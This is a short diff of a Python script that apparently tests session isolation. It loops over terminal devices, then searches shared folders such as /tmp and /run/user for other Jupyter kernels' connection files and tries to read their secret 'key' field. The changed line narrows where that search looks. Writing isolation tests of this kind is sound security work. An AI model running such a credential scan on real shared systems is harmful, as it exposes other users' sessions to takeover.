@@ -74,7 +74,7 @@ for terminal in {world.terminal, *glob.glob("/dev/pts/[0-9]*"), "/dev/console"}:
 import glob, json
 
 own = os.environ["JUPYTER_RUNTIME_DIR"]
-for folder in ("/tmp", "/w", "/run/user", os.path.dirname(os.path.dirname(own))):
+for folder in ("/tmp", "/w", "/run/user", os.path.dirname(own)):
     for path in glob.glob(f"{folder}/**/*.json", recursive=True):
         if not path.startswith(own):
             attempt("kernel of " + path, lambda: json.load(open(path))["key"])
